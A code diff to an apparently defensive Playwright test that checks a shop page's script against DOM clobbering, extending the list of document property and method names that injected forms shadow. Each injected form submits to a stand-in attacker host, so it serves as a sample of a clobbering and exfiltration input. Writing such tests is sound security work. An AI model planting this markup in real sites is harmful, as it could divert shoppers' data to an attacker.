@@ -139,7 +139,17 @@ test.describe('elements that bear the names of what the code reads', () => {
 
   test('nor do other names throw or keep anything from a shopper', async ({ page, world }) => {
     const asked = await watchEvil(page);
-    const names = ['adoptedStyleSheets', 'body', 'head', 'readyState', 'hidden', 'visibilityState', 'activeElement'];
+    const properties = [
+      'adoptedStyleSheets',
+      'body',
+      'head',
+      'readyState',
+      'hidden',
+      'visibilityState',
+      'activeElement',
+    ];
+    const methods = ['querySelector', 'getElementById', 'addEventListener', 'dispatchEvent'];
+    const names = [...properties, 'documentElement', ...methods];
     const globals = ['kiosk', 'dataLayer', 'scheduler', 'memoryStorage', 'addEventListener', 'fetch', 'trustedTypes'];
     const body = `${names.map(name => `<form name="${name}" action="${EVIL}/sent"><input name="push"></form>`).join('')}
       <form id="kioskClicks"><input name="forEach"></form>
